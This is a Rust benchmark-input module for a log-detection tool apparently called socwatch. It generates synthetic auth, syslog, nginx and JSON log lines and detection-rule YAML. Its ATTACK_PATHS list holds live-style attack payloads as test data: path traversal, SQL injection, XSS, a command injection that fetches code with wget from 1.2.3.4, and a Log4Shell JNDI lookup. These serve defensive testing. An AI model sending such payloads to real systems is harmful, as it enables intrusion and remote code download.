//! Inputs shared by the benches: small deterministic line generators, the generated rule set, and
//! reading the shared generator's output when `SOCWATCH_BENCH_DIR` is set (the `auth-N.log` and
//! `nginx-N.log` files that `gen_logs.py` writes). Each bench uses only part of this module.
#![allow(dead_code)]

use std::fmt::Write as _;
use std::path::PathBuf;

use jiff::Timestamp;
use jiff::tz::TimeZone;
use socwatch::decode::DecodeContext;
use socwatch::rules::{RuleSet, RuleSource};

/// A small, fixed-seed PRNG (xorshift64*): the benches need variety, not quality.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed.max(1))
    }

    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    pub fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }

    /// One of 2,000 addresses: like a real log, where attackers and users come back many times
    /// (a fresh address on every line would make every failed login a new correlation group).
    pub fn ipv4(&mut self) -> String {
        const FIRST: [usize; 8] = [45, 61, 103, 117, 141, 185, 193, 222];
        let i = self.below(2000);
        format!(
            "{}.{}.{}.{}",
            FIRST[i % FIRST.len()],
            (i * 37) % 256,
            (i * 101) % 256,
            1 + (i * 13) % 254
        )
    }
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];
const USERS: [&str; 8] = [
    "deploy", "alice", "bob", "carol", "backup", "git", "dave", "erin",
];
const ATTACK_USERS: [&str; 10] = [
    "admin", "test", "oracle", "postgres", "ubuntu", "guest", "pi", "support", "mysql", "root",
];

/// Seconds since 2026-11-10 00:00 UTC, as the parts of a syslog timestamp.
fn clock(second: u64) -> (usize, u64, u64, u64, u64) {
    let day = 10 + second / 86_400;
    let rem = second % 86_400;
    (10, day, rem / 3600, rem / 60 % 60, rem % 60)
}

/// The body of one auth.log line (after `host `), shaped like Debian's sshd/cron/sudo/logind lines.
/// About 10% are failed logins, as in the shared generator.
fn auth_body(rng: &mut Rng) -> String {
    let pid = 1000 + rng.below(3_000_000);
    let ip = rng.ipv4();
    let port = 1024 + rng.below(64_000);
    match rng.below(20) {
        0 | 1 => format!(
            "sshd[{pid}]: Failed password for {} from {ip} port {port} ssh2",
            rng.pick(&ATTACK_USERS)
        ),
        2 => format!(
            "sshd[{pid}]: Failed password for invalid user {} from {ip} port {port} ssh2",
            rng.pick(&ATTACK_USERS)
        ),
        3 => format!(
            "sshd[{pid}]: Invalid user {} from {ip} port {port}",
            rng.pick(&ATTACK_USERS)
        ),
        4 => format!(
            "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip} "
        ),
        5 => format!(
            "sshd[{pid}]: Accepted publickey for {} from {ip} port {port} ssh2: ED25519 SHA256:vb1X7VTy5ETzLD2Nl0E7Q4EZCnmxqaMb/atfr3cegf2",
            rng.pick(&USERS)
        ),
        6 => format!(
            "sshd[{pid}]: pam_unix(sshd:session): session opened for user {}(uid=1000) by (uid=0)",
            rng.pick(&USERS)
        ),
        7 => format!(
            "sshd[{pid}]: pam_unix(sshd:session): session closed for user {}",
            rng.pick(&USERS)
        ),
        8 => {
            format!("sshd[{pid}]: Received disconnect from {ip} port {port}:11: Bye Bye [preauth]")
        }
        9 => format!(
            "sshd[{pid}]: Disconnected from user {} {ip} port {port}",
            rng.pick(&USERS)
        ),
        10 | 11 => format!(
            "CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
        ),
        12 | 13 => format!("CRON[{pid}]: pam_unix(cron:session): session closed for user root"),
        14 => format!(
            "systemd-logind[512]: New session {} of user {}.",
            rng.below(60_000),
            rng.pick(&USERS)
        ),
        15 => format!(
            "systemd-logind[512]: Removed session {}.",
            rng.below(60_000)
        ),
        16 => format!(
            "sudo[{pid}]:    {} : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
            rng.pick(&USERS)
        ),
        17 => format!(
            "sudo[{pid}]: pam_unix(sudo:session): session opened for user root(uid=0) by {}(uid=1000)",
            rng.pick(&USERS)
        ),
        18 => format!(
            "sshd[{pid}]: Connection closed by authenticating user root {ip} port {port} [preauth]"
        ),
        _ => format!(
            "sshd[{pid}]: Disconnected from invalid user {} {ip} port {port} [preauth]",
            rng.pick(&ATTACK_USERS)
        ),
    }
}

/// RFC 3164 auth.log lines (`Nov 10 00:00:06 web01 sshd[2754]: ...`).
pub fn auth_lines(n: usize) -> Vec<String> {
    if let Some(lines) = from_bench_dir("auth-", n) {
        return lines;
    }
    let mut rng = Rng::new(0x05ee_da17);
    (0..n)
        .map(|i| {
            let (month, day, h, m, s) = clock(i as u64 / 2);
            format!(
                "{} {day:>2} {h:02}:{m:02}:{s:02} web01 {}",
                MONTHS[month],
                auth_body(&mut rng)
            )
        })
        .collect()
}

/// The same bodies with the ISO timestamps rsyslog writes (`2026-11-10T00:00:06.046964+00:00 web01 ...`).
pub fn syslog_iso_lines(n: usize) -> Vec<String> {
    let mut rng = Rng::new(0x150);
    (0..n)
        .map(|i| {
            let (_, day, h, m, s) = clock(i as u64 / 2);
            format!(
                "2026-11-{day:02}T{h:02}:{m:02}:{s:02}.{:06}+07:00 web01 {}",
                rng.below(1_000_000),
                auth_body(&mut rng)
            )
        })
        .collect()
}

/// RFC 5424 lines, half of them with structured data.
pub fn syslog_5424_lines(n: usize) -> Vec<String> {
    let mut rng = Rng::new(0x5424);
    (0..n)
        .map(|i| {
            let (_, day, h, m, s) = clock(i as u64 / 2);
            let body = auth_body(&mut rng);
            let (prog, msg) = body.split_once(": ").unwrap_or(("app", &body));
            let (app, pid) = prog
                .split_once('[')
                .map(|(a, p)| (a, p.trim_end_matches(']')))
                .unwrap_or((prog, "-"));
            let sd = if i % 2 == 0 {
                format!(
                    "[origin@32473 ip=\"{}\" software=\"rsyslogd\"][meta sequenceId=\"{i}\"]",
                    rng.ipv4()
                )
            } else {
                "-".to_string()
            };
            format!(
                "<38>1 2026-11-{day:02}T{h:02}:{m:02}:{s:02}.{:03}Z web01.example.gov.vn {app} {pid} ID47 {sd} {msg}",
                rng.below(1000)
            )
        })
        .collect()
}

const PATHS: [&str; 10] = [
    "/",
    "/products/52",
    "/images/product-7.jpg",
    "/static/css/app.7489a764.css",
    "/fonts/inter-0e9fd2bf.woff2",
    "/api/v1/cart?item=42&qty=1",
    "/search?q=ho+chi+minh+city",
    "/tin-tuc/thong-bao-2026.html",
    "/contact",
    "/tin-tuc/index.php?page=2&cat=thong-bao",
];
const ATTACK_PATHS: [&str; 8] = [
    "/wp-login.php",
    "/index.php?page=../../../../etc/passwd",
    "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/.env",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3Ewget%20http://1.2.3.4/x)",
    "/tin-tuc/no-hu-tai-xiu-nha-cai-uy-tin.html",
    "/?x=${jndi:ldap://45.1.2.3:1389/a}",
];
const AGENTS: [&str; 5] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "curl/8.5.0",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
];

/// nginx "combined" access log lines, about 3% of them attacks.
pub fn nginx_lines(n: usize) -> Vec<String> {
    if let Some(lines) = from_bench_dir("nginx-", n) {
        return lines;
    }
    let mut rng = Rng::new(0x4e61);
    (0..n)
        .map(|i| {
            let (_, day, h, m, s) = clock(i as u64 / 3);
            let path = if rng.below(33) == 0 {
                rng.pick(&ATTACK_PATHS)
            } else {
                rng.pick(&PATHS)
            };
            let method = if rng.below(10) == 0 { "POST" } else { "GET" };
            let status = [200, 200, 200, 304, 404, 301][rng.below(6)];
            format!(
                "{} - - [{day:02}/Nov/2026:{h:02}:{m:02}:{s:02} +0000] \"{method} {path} HTTP/1.1\" {status} {} \"https://example.gov.vn/products/52\" \"{}\"",
                rng.ipv4(),
                rng.below(200_000),
                rng.pick(&AGENTS)
            )
        })
        .collect()
}

/// JSON lines as an application or a shipper writes them, with nested keys.
pub fn json_lines(n: usize) -> Vec<String> {
    let mut rng = Rng::new(0x15a);
    (0..n)
        .map(|i| {
            let (_, day, h, m, s) = clock(i as u64 / 2);
            let event = ["login_failed", "login_ok", "file_upload", "password_reset"][rng.below(4)];
            format!(
                r#"{{"timestamp":"2026-11-{day:02}T{h:02}:{m:02}:{s:02}Z","level":"warn","event":"{event}","user":{{"name":"{}","id":{}}},"client":{{"ip":"{}","ua":"Mozilla/5.0 \"quoted\""}},"message":"{event} for {} from portal\u00e9 \/api\/login"}}"#,
                rng.pick(&USERS),
                rng.below(10_000),
                rng.ipv4(),
                rng.pick(&USERS),
            )
        })
        .collect()
}

/// Up to `n` lines of the first file named `PREFIX*.log` in `$SOCWATCH_BENCH_DIR`.
fn from_bench_dir(prefix: &str, n: usize) -> Option<Vec<String>> {
    let dir = PathBuf::from(std::env::var_os("SOCWATCH_BENCH_DIR")?);
    let mut names: Vec<PathBuf> = std::fs::read_dir(&dir)
        .ok()?
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| {
            p.file_name()
                .and_then(|f| f.to_str())
                .is_some_and(|f| f.starts_with(prefix) && f.ends_with(".log"))
        })
        .collect();
    names.sort();
    let text = std::fs::read_to_string(names.first()?).ok()?;
    Some(text.lines().take(n).map(str::to_owned).collect())
}

/// The decode context of the benches: UTC, "now" just after the generated lines.
pub fn context() -> DecodeContext {
    DecodeContext::new(
        TimeZone::UTC,
        "2026-11-21T00:00:00Z".parse::<Timestamp>().unwrap(),
    )
}

const VENDORS: [&str; 50] = [
    "acme",
    "zyxel",
    "fortigate",
    "paloalto",
    "sophos",
    "watchguard",
    "mikrotik",
    "ubiquiti",
    "checkpoint",
    "barracuda",
    "kerio",
    "pfsense",
    "opnsense",
    "vyos",
    "juniper",
    "huawei",
    "ruijie",
    "draytek",
    "tplink",
    "netgear",
    "synology",
    "qnap",
    "vmware",
    "proxmox",
    "citrix",
    "f5big",
    "haproxy",
    "squid",
    "bind9",
    "unbound",
    "dnsmasq",
    "openvpn",
    "wireguard",
    "strongswan",
    "radiusd",
    "slapd",
    "samba",
    "winbind",
    "kerberos",
    "keycloak",
    "gitlab",
    "jenkins",
    "nextcloud",
    "zimbra",
    "roundcube",
    "moodle",
    "joomla",
    "drupal",
    "magento",
    "odoo",
];
const EVENTS: [&str; 40] = [
    "login",
    "logon",
    "auth",
    "admin",
    "portal",
    "session",
    "token",
    "vpn",
    "tunnel",
    "policy",
    "firewall",
    "ips",
    "webfilter",
    "antivirus",
    "sandbox",
    "quarantine",
    "backup",
    "restore",
    "config",
    "upgrade",
    "license",
    "cluster",
    "failover",
    "certificate",
    "radius",
    "ldap",
    "sso",
    "otp",
    "mfa",
    "apikey",
    "webhook",
    "upload",
    "download",
    "share",
    "mailbox",
    "relay",
    "spool",
    "queue",
    "zone",
    "transfer",
];
const VERBS: [&str; 6] = [
    "failed", "denied", "rejected", "blocked", "refused", "invalid",
];

/// `n` distinct, realistic rules as one YAML text (`---` between documents): each its own literal
/// words (`VENDOR-EVENT`) and a regex with named groups; every 4th with a logsource, every 10th with
/// a threshold, every 7th and every 9th a field condition beside the regex (`exists`, `not` + `cidr`), every 50th a distinct-count threshold.
pub fn generated_rules_yaml(n: usize) -> String {
    let mut out = String::new();
    for i in 0..n {
        let vendor = VENDORS[i % VENDORS.len()];
        let event = EVENTS[(i / VENDORS.len()) % EVENTS.len()];
        let round = i / (VENDORS.len() * EVENTS.len());
        let verb = VERBS[i % VERBS.len()];
        let tag = if round == 0 {
            format!("{vendor}-{event}")
        } else {
            format!("{vendor}-{event}{round}")
        };
        if i > 0 {
            out.push_str("---\n");
        }
        let _ = writeln!(out, "id: gen-{i:04}-{tag}");
        let _ = writeln!(out, "title: {vendor} {event} {verb} (generated {i})");
        let severity = ["low", "medium", "high", "critical"][i % 4];
        let _ = writeln!(out, "severity: {severity}");
        let _ = writeln!(out, "tags: [attack.credential_access, attack.t1110]");
        if i % 4 == 0 {
            let _ = writeln!(out, "logsource: {{product: linux, service: {vendor}}}");
        }
        let _ = writeln!(out, "match:");
        let _ = writeln!(
            out,
            "  message: '{tag}: {verb} (?:request|attempt) for (?P<user>[\\w.@-]+) from (?P<src_ip>[0-9A-Fa-f.:]+)(?: port (?P<port>\\d+))?'"
        );
        if i % 7 == 0 {
            let _ = writeln!(out, "  user: {{exists: true}}");
        }
        if i % 9 == 0 {
            let _ = writeln!(
                out,
                "  not: {{src_ip: {{cidr: [10.0.0.0/8, 192.168.0.0/16, 172.16.0.0/12]}}}}"
            );
        }
        if i % 50 == 0 {
            let _ = writeln!(
                out,
                "threshold: {{distinct: user, count: 5, within: 10m, group_by: [src_ip]}}"
            );
        } else if i % 10 == 0 {
            let _ = writeln!(
                out,
                "threshold: {{count: {}, within: 5m, group_by: [src_ip]}}",
                3 + i % 5
            );
        }
        let _ = writeln!(out, "tests:");
        let _ = writeln!(
            out,
            "  - line: 'Nov 22 10:01:02 gw01 {vendor}[42]: {tag}: {verb} request for alice from 203.0.113.{} port 5151'",
            1 + i % 250
        );
        let _ = writeln!(out, "    fields: {{user: alice}}");
    }
    out
}

/// A line that generated rule `i` matches (to mix a few generated-rule hits into the bench input).
pub fn generated_rule_line(i: usize, rng: &mut Rng) -> String {
    let vendor = VENDORS[i % VENDORS.len()];
    let event = EVENTS[(i / VENDORS.len()) % EVENTS.len()];
    let round = i / (VENDORS.len() * EVENTS.len());
    let verb = VERBS[i % VERBS.len()];
    let tag = if round == 0 {
        format!("{vendor}-{event}")
    } else {
        format!("{vendor}-{event}{round}")
    };
    format!(
        "Nov 12 10:01:02 gw01 {vendor}[42]: {tag}: {verb} attempt for {} from {} port {}",
        rng.pick(&ATTACK_USERS),
        rng.ipv4(),
        1024 + rng.below(60_000)
    )
}

/// The `n` generated rules, compiled.
pub fn generated_rules(n: usize) -> RuleSet {
    RuleSet::build(&[RuleSource {
        name: format!("generated-{n}.yml"),
        text: generated_rules_yaml(n),
    }])
    .unwrap_or_else(|problems| panic!("generated rules do not build: {problems:?}"))
}

/// The shipped rules plus `n` generated ones.
pub fn shipped_plus_generated(n: usize) -> RuleSet {
    let mut sources = socwatch::rules::shipped_sources();
    sources.push(RuleSource {
        name: format!("generated-{n}.yml"),
        text: generated_rules_yaml(n),
    });
    RuleSet::build(&sources)
        .unwrap_or_else(|problems| panic!("generated rules do not build: {problems:?}"))
}
